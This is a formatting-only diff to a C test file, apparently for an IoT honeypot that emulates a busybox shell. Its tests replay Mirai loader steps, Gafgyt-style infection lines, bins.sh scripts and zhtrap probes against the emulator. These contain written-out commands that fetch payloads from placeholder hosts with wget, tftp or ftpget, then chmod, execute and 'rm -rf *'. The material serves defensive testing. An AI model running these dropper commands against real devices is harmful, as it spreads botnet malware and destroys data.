@@ -63,9 +63,9 @@ static void test_mirai_scanner(void **state)
 enum { M_ECHO, M_WGET, M_TFTP };
 
 struct loader {
-	char dir[64];           /* working folder chosen from the .nippon test */
-	int machine;            /* e_machine read from `cat /bin/echo` */
-	int data;               /* EI_DATA */
+	char dir[64]; /* working folder chosen from the .nippon test */
+	int machine;  /* e_machine read from `cat /bin/echo` */
+	int data;     /* EI_DATA */
 	bool armv7;
 	int method;
 	int killed;
@@ -73,7 +73,8 @@ struct loader {
 
 /* The Mirai loader (loader/src/connection.c) against one shell: sends its lines and takes
  * its decisions from the answers, as the real loader does. */
-static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force_method, struct loader *L)
+static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force_method,
+			 struct loader *L)
 {
 	memset(L, 0, sizeof(*L));
 	char *o;
@@ -116,14 +117,17 @@ static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force
 	int nd = 0;
 	for (char *line = strtok(o, "\n"); line; line = strtok(NULL, "\n")) {
 		char dev[64], dir[64], type[32], opts[128];
-		if (sscanf(line, "%63s %63s %31s %127s", dev, dir, type, opts) == 4 && strncmp(opts, "rw", 2) == 0 && nd < 15)
+		if (sscanf(line, "%63s %63s %31s %127s", dev, dir, type, opts) == 4 &&
+		    strncmp(opts, "rw", 2) == 0 && nd < 15)
 			snprintf(dirs[nd++], sizeof(dirs[0]), "%s", dir);
 	}
 	snprintf(dirs[nd++], sizeof(dirs[0]), "/dev");
 	free(o);
 	assert_true(nd > 1);
 	for (int i = 0; i < nd && !L->dir[0]; i++) {
-		o = run(t, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon",
+		o = run(t,
+			"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox "
+			"cat %s/.nippon; /bin/busybox rm %s/.nippon",
 			dirs[i], dirs[i], dirs[i], dirs[i]);
 		char want[128];
 		snprintf(want, sizeof(want), "kami%.100s", dirs[i]);
@@ -134,7 +138,8 @@ static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force
 	assert_true(L->dir[0] != 0);
 	o = run(t, "cd %s/", L->dir);
 	free(o);
-	o = run(t, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
+	o = run(t, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 "
+		   "dvrHelper; /bin/busybox ECCHI");
 	assert_true(contains(o, "ECCHI: applet not found"));
 	assert_false(contains(o, "can't"));
 	free(o);
@@ -147,7 +152,8 @@ static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force
 	assert_true(elf > o && (uint8_t)elf[-1] == 0x7f);
 	char *hdr = elf - 1;
 	L->data = hdr[5];
-	L->machine = L->data == 2 ? ((uint8_t)hdr[18] << 8 | (uint8_t)hdr[19]) : ((uint8_t)hdr[19] << 8 | (uint8_t)hdr[18]);
+	L->machine = L->data == 2 ? ((uint8_t)hdr[18] << 8 | (uint8_t)hdr[19])
+				  : ((uint8_t)hdr[19] << 8 | (uint8_t)hdr[18]);
 	free(o);
 	o = run(t, "/bin/busybox ECCHI");
 	assert_true(contains(o, "ECCHI: applet not found"));
@@ -159,13 +165,16 @@ static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force
 	}
 	/* the method */
 	o = run(t, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
-	L->method = contains(o, "wget: applet not found") ? (contains(o, "tftp: applet not found") ? M_ECHO : M_TFTP) : M_WGET;
+	L->method = contains(o, "wget: applet not found")
+			    ? (contains(o, "tftp: applet not found") ? M_ECHO : M_TFTP)
+			    : M_WGET;
 	assert_true(contains(o, "Usage: wget"));
 	free(o);
 	if (force_method >= 0)
 		L->method = force_method;
 	if (L->method == M_WGET) {
-		o = run(t, "/bin/busybox wget http://198.51.100.1:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
+		o = run(t, "/bin/busybox wget http://198.51.100.1:80/bins/mirai.arm7 -O - > "
+			   "dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
 		assert_string_equal(o, "");
 		assert_true(shell_busy(t->sh));
 		free(o);
@@ -183,7 +192,8 @@ static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force
 		assert_true(contains(o, "Connecting to 198.51.100.1 (203.0.113.7:80)"));
 		free(o);
 	} else if (L->method == M_TFTP) {
-		o = run(t, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.1; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
+		o = run(t, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.1; "
+			   "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
 		free(o);
 		assert_int_equal(t->nfetches, 1);
 		assert_string_equal(t->fetches[0].url, "tftp://198.51.100.1/mirai.arm7");
@@ -193,15 +203,18 @@ static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force
 		assert_true(contains(o, "ECCHI: applet not found"));
 		free(o);
 	} else {
-		o = run(t, "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI");
+		o = run(t, "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; "
+			   "/bin/busybox ECCHI");
 		assert_true(contains(o, "ECCHI: applet not found"));
 		free(o);
 		for (size_t off = 0; off < len; off += 128) {
 			char line[1024];
 			size_t k = (size_t)snprintf(line, sizeof(line), "/bin/busybox echo -ne '");
 			for (size_t i = off; i < len && i < off + 128; i++)
-				k += (size_t)snprintf(line + k, sizeof(line) - k, "\\x%02x", bin[i]);
-			snprintf(line + k, sizeof(line) - k, "' %s upnp; /bin/busybox ECCHI", off ? ">>" : ">");
+				k += (size_t)snprintf(line + k, sizeof(line) - k, "\\x%02x",
+						      bin[i]);
+			snprintf(line + k, sizeof(line) - k, "' %s upnp; /bin/busybox ECCHI",
+				 off ? ">>" : ">");
 			o = run(t, "%s", line);
 			assert_true(strncmp(o, "ECCHI: applet not found\n", 24) == 0);
 			free(o);
@@ -298,7 +311,8 @@ static void test_mirai_loader_wget_tftp(void **state)
 /* The loader on each real profile: every answer it needs, and the ELF of the device's CPU. */
 static void test_mirai_loader_real_profiles(void **state)
 {
-	static const char *const names[] = {"dvr-hi3520d", "router-mt7620", "router-rtl8196c", "stb-stx7111"};
+	static const char *const names[] = {"dvr-hi3520d", "router-mt7620", "router-rtl8196c",
+					    "stb-stx7111"};
 	for (size_t i = 0; i < LIB_ARRAY_LEN(names); i++) {
 		struct th t;
 		th_init_real(&t, names[i]);
@@ -336,12 +350,15 @@ static void test_gafgyt_scanner(void **state)
 	th_fini(&t);
 }
 
-static const char bins_sh[] =
-	"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/mips; chmod +x mips; ./mips; rm -rf mips\n"
-	"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/arm7; chmod +x arm7; ./arm7; rm -rf arm7\n"
-	"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/x86; chmod +x x86; ./x86; rm -rf x86\n";
+static const char bins_sh[] = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
+			      "http://198.51.100.9/mips; chmod +x mips; ./mips; rm -rf mips\n"
+			      "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
+			      "http://198.51.100.9/arm7; chmod +x arm7; ./arm7; rm -rf arm7\n"
+			      "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
+			      "http://198.51.100.9/x86; chmod +x x86; ./x86; rm -rf x86\n";
 static const char tftp1_sh[] = "cd /tmp; tftp -g -r t1 198.51.100.9; chmod 777 t1; ./t1\n";
-static const char tftp2_sh[] = "#!/bin/sh\ncd /tmp\ntftp 198.51.100.9 -c get t2\nchmod 777 t2\n./t2 &\n";
+static const char tftp2_sh[] =
+	"#!/bin/sh\ncd /tmp\ntftp 198.51.100.9 -c get t2\nchmod 777 t2\n./t2 &\n";
 static const char ftp1_sh[] = "cd /tmp; ftpget 198.51.100.9 f1 f1; chmod 777 f1; ./f1\n";
 
 static void test_gafgyt_infection_line(void **state)
@@ -349,7 +366,8 @@ static void test_gafgyt_infection_line(void **state)
 	struct th t;
 	th_init(&t, NULL);
 	free(th_take(&t));
-	uint8_t *mips = th_fake_elf(900, 8, 2), *arm = th_fake_elf(900, 40, 1), *x86 = th_fake_elf(900, 3, 1);
+	uint8_t *mips = th_fake_elf(900, 8, 2), *arm = th_fake_elf(900, 40, 1),
+		*x86 = th_fake_elf(900, 3, 1);
 	th_auto(&t, "/bins.sh", bins_sh, strlen(bins_sh));
 	th_auto(&t, "/mips", mips, 900);
 	th_auto(&t, "/arm7", arm, 900);
@@ -360,25 +378,33 @@ static void test_gafgyt_infection_line(void **state)
 	th_auto(&t, "/t1", arm, 900);
 	th_auto(&t, "/t2", arm, 900);
 	th_auto(&t, "/f1", arm, 900);
-	th_line(&t, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; "
-		    "sh bins.sh; tftp 198.51.100.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 198.51.100.9; "
-		    "chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 ftp1.sh ftp1.sh; sh ftp1.sh; "
+	th_line(&t, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "
+		    "http://198.51.100.9/bins.sh; chmod 777 bins.sh; "
+		    "sh bins.sh; tftp 198.51.100.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh "
+		    "tftp1.sh; tftp -r tftp2.sh -g 198.51.100.9; "
+		    "chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 "
+		    "198.51.100.9 ftp1.sh ftp1.sh; sh ftp1.sh; "
 		    "rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *");
 	/* a line typed while the downloads run is queued and runs afterwards */
 	th_line(&t, "echo after");
 	th_pump(&t);
 	static const char *const want[] = {
-		"wget http://198.51.100.9/bins.sh /tmp/bins.sh", "wget http://198.51.100.9/mips /tmp/mips",
-		"wget http://198.51.100.9/arm7 /tmp/arm7",       "wget http://198.51.100.9/x86 /tmp/x86",
-		"tftp tftp://198.51.100.9/tftp1.sh /tmp/tftp1.sh", "tftp tftp://198.51.100.9/t1 /tmp/t1",
-		"tftp tftp://198.51.100.9/tftp2.sh /tmp/tftp2.sh", "tftp tftp://198.51.100.9/t2 /tmp/t2",
+		"wget http://198.51.100.9/bins.sh /tmp/bins.sh",
+		"wget http://198.51.100.9/mips /tmp/mips",
+		"wget http://198.51.100.9/arm7 /tmp/arm7",
+		"wget http://198.51.100.9/x86 /tmp/x86",
+		"tftp tftp://198.51.100.9/tftp1.sh /tmp/tftp1.sh",
+		"tftp tftp://198.51.100.9/t1 /tmp/t1",
+		"tftp tftp://198.51.100.9/tftp2.sh /tmp/tftp2.sh",
+		"tftp tftp://198.51.100.9/t2 /tmp/t2",
 		"ftpget ftp://anonymous:anonymous@198.51.100.9:21/ftp1.sh /tmp/ftp1.sh",
 		"ftpget ftp://anonymous:busybox@@198.51.100.9:21/f1 /tmp/f1",
 	};
 	assert_int_equal(t.nfetches, LIB_ARRAY_LEN(want));
 	for (size_t i = 0; i < t.nfetches; i++) {
 		char got[512];
-		snprintf(got, sizeof(got), "%s %s %s", t.fetches[i].method, t.fetches[i].url, t.fetches[i].dest);
+		snprintf(got, sizeof(got), "%s %s %s", t.fetches[i].method, t.fetches[i].url,
+			 t.fetches[i].dest);
 		assert_string_equal(got, want[i]);
 	}
 	/* every binary was run (handed to the sandbox), all arches */
@@ -407,8 +433,11 @@ static void test_zhtrap(void **state)
 	struct th t;
 	th_init(&t, NULL);
 	free(th_take(&t));
-	static const char *const probes[] = {"enable", "linuxshell", "system", "bash", "ls /home", "ps aux", "/bin/busybox ZONESEC"};
-	static const char *const black[] = {"Jun22", "Jun23", "phil", "sshd:", "richard", "@LocalHost:]", "EmbyLinux"};
+	static const char *const probes[] = {
+		"enable", "linuxshell",          "system", "bash", "ls /home",
+		"ps aux", "/bin/busybox ZONESEC"};
+	static const char *const black[] = {
+		"Jun22", "Jun23", "phil", "sshd:", "richard", "@LocalHost:]", "EmbyLinux"};
 	struct buf all;
 	buf_init(&all, 1 << 20);
 	for (size_t i = 0; i < LIB_ARRAY_LEN(probes); i++) {
@@ -470,19 +499,25 @@ static void test_dd_probe(void **state)
 		if (strcmp(t.prof->nodes[i].path, "/bin/busybox") == 0)
 			bb = &t.prof->nodes[i];
 	assert_memory_equal(o, bb->data, 52);
-	assert_true(strncmp(o + 52, "1+0 records in\n1+0 records out\n52 bytes (52B) copied, ", 54) == 0);
+	assert_true(strncmp(o + 52, "1+0 records in\n1+0 records out\n52 bytes (52B) copied, ",
+			    54) == 0);
 	free(o);
 	/* dd onto a file, with skip and seek */
-	o = run(&t, "printf 0123456789 > d; dd if=d of=e bs=2 skip=1 count=2 2>/dev/null; cat e; echo");
+	o = run(&t,
+		"printf 0123456789 > d; dd if=d of=e bs=2 skip=1 count=2 2>/dev/null; cat e; echo");
 	assert_string_equal(o, "2345\n# ");
 	free(o);
 	th_line(&t, "dd if=d of=e bs=1 seek=6 conv=notrunc 2>/dev/null; cat e");
 	o = th_take_len(&t, &olen);
 	assert_int_equal(olen, 16 + 2);
-	assert_memory_equal(o, "2345\0\0" "0123456789# ", 18);
+	assert_memory_equal(o,
+			    "2345\0\0"
+			    "0123456789# ",
+			    18);
 	free(o);
 	o = run(&t, "dd if=d of=e bs=4 count=1; cat e");
-	assert_string_equal(o, "1+0 records in\n1+0 records out\n4 bytes (4B) copied, 0.000041 seconds, 95.1KB/s\n0123# ");
+	assert_string_equal(o, "1+0 records in\n1+0 records out\n4 bytes (4B) copied, 0.000041 "
+			       "seconds, 95.1KB/s\n0123# ");
 	free(o);
 	th_fini(&t);
 }
@@ -499,16 +534,23 @@ static void test_fetch_failures(void **state)
 		int status, code;
 		const char *cmd, *want;
 	} cases[] = {
-		{SHELL_FETCH_BAD_ADDRESS, 0, "wget http://bad.example/x", "wget: bad address 'bad.example'\n"},
+		{SHELL_FETCH_BAD_ADDRESS, 0, "wget http://bad.example/x",
+		 "wget: bad address 'bad.example'\n"},
 		{SHELL_FETCH_REFUSED, 0, "wget http://198.51.100.3/x",
-		 "Connecting to 198.51.100.3 (203.0.113.7:80)\nwget: can't connect to remote host (203.0.113.7): Connection refused\n"},
-		{SHELL_FETCH_TIMEOUT, 0, "wget -q http://198.51.100.3/x", "wget: download timed out\n"},
+		 "Connecting to 198.51.100.3 (203.0.113.7:80)\nwget: can't connect to remote host "
+		 "(203.0.113.7): Connection refused\n"},
+		{SHELL_FETCH_TIMEOUT, 0, "wget -q http://198.51.100.3/x",
+		 "wget: download timed out\n"},
 		{SHELL_FETCH_SERVER_ERROR, 404, "wget http://198.51.100.3/x",
-		 "Connecting to 198.51.100.3 (203.0.113.7:80)\nwget: server returned error: HTTP/1.1 404 Not Found\n"},
+		 "Connecting to 198.51.100.3 (203.0.113.7:80)\nwget: server returned error: "
+		 "HTTP/1.1 404 Not Found\n"},
 		{SHELL_FETCH_TIMEOUT, 0, "tftp -g -r x 198.51.100.3", "tftp: timeout\n"},
-		{SHELL_FETCH_SERVER_ERROR, 1, "tftp -g -r x 198.51.100.3", "tftp: server error: (1) File not found\n"},
-		{SHELL_FETCH_REFUSED, 0, "ftpget 198.51.100.3 l r", "ftpget: can't connect to remote host (203.0.113.7): Connection refused\n"},
-		{SHELL_FETCH_SERVER_ERROR, 550, "ftpget 198.51.100.3 l r", "ftpget: unexpected server response to RETR: 550 Failed to open file.\n"},
+		{SHELL_FETCH_SERVER_ERROR, 1, "tftp -g -r x 198.51.100.3",
+		 "tftp: server error: (1) File not found\n"},
+		{SHELL_FETCH_REFUSED, 0, "ftpget 198.51.100.3 l r",
+		 "ftpget: can't connect to remote host (203.0.113.7): Connection refused\n"},
+		{SHELL_FETCH_SERVER_ERROR, 550, "ftpget 198.51.100.3 l r",
+		 "ftpget: unexpected server response to RETR: 550 Failed to open file.\n"},
 	};
 	for (size_t i = 0; i < LIB_ARRAY_LEN(cases); i++) {
 		free(run(&t, "%s", cases[i].cmd));
@@ -534,7 +576,8 @@ static void test_fetch_failures(void **state)
 	th_complete(&t, SHELL_FETCH_OK, 200, "hello", 5);
 	o = th_take(&t);
 	assert_string_equal(o, "Connecting to 198.51.100.3 (203.0.113.7:80)\n"
-			       "\rfile.bin             100% |*******************************|     5   0:00:00 ETA\n# ");
+			       "\rfile.bin             100% |*******************************|     "
+			       "5   0:00:00 ETA\n# ");
 	free(o);
 	free(run(&t, "wget http://198.51.100.3/dir/file.bin"));
 	th_complete(&t, SHELL_FETCH_OK, 200, "again", 5);
@@ -576,7 +619,8 @@ static void test_fetch_failures(void **state)
 	th_complete(&t, SHELL_FETCH_OK, 200, "abc", 3);
 	o = th_take(&t);
 	assert_string_equal(o, "Connecting to 198.51.100.3 (203.0.113.7:80)\nsaving to 'a.sh'\n"
-			       "\ra.sh                 100% |********************************|     3  0:00:00 ETA\n'a.sh' saved\n# ");
+			       "\ra.sh                 100% |********************************|     "
+			       "3  0:00:00 ETA\n'a.sh' saved\n# ");
 	free(o);
 	th_fini(&t);
 }
@@ -587,10 +631,12 @@ static void test_no_network(void **state)
 	struct th t;
 	th_init_with(&t, th_profile(NULL), false, true, NULL);
 	free(th_take(&t));
-	char *o = run(&t, "cd /tmp; wget http://198.51.100.3/x; wget http://host.example/y; tftp -g -r z 198.51.100.3; echo $?");
-	assert_string_equal(o, "Connecting to 198.51.100.3 (198.51.100.3:80)\n"
-			       "wget: can't connect to remote host (198.51.100.3): Network is unreachable\n"
-			       "wget: bad address 'host.example'\ntftp: timeout\n1\n# ");
+	char *o = run(&t, "cd /tmp; wget http://198.51.100.3/x; wget http://host.example/y; tftp "
+			  "-g -r z 198.51.100.3; echo $?");
+	assert_string_equal(
+		o, "Connecting to 198.51.100.3 (198.51.100.3:80)\n"
+		   "wget: can't connect to remote host (198.51.100.3): Network is unreachable\n"
+		   "wget: bad address 'host.example'\ntftp: timeout\n1\n# ");
 	free(o);
 	th_fini(&t);
 }
@@ -598,7 +644,11 @@ static void test_no_network(void **state)
 static void test_queue(void **state)
 {
 	struct th t;
-	struct shell_limits lim = {.vfs_bytes = 1 << 20, .vfs_files = 64, .max_commands = 1000, .script_depth = 4, .max_queued = 64};
+	struct shell_limits lim = {.vfs_bytes = 1 << 20,
+				   .vfs_files = 64,
+				   .max_commands = 1000,
+				   .script_depth = 4,
+				   .max_queued = 64};
 	th_init_limits(&t, NULL, &lim);
 	free(th_take(&t));
 	th_line(&t, "wget -q -O /tmp/q http://198.51.100.3/q; echo first");
@@ -609,7 +659,10 @@ static void test_queue(void **state)
 	assert_string_equal(o, "");
 	free(o);
 	/* the queue is bounded */
-	assert_int_equal(th_line(&t, "echo this line is far too long to fit in the little queue of 64 bytes"), -ENOBUFS);
+	assert_int_equal(
+		th_line(&t,
+			"echo this line is far too long to fit in the little queue of 64 bytes"),
+		-ENOBUFS);
 	th_complete(&t, SHELL_FETCH_OK, 200, "qdata\n", 6);
 	o = th_take(&t);
 	assert_string_equal(o, "first\n# second\n# qdata\n# ");
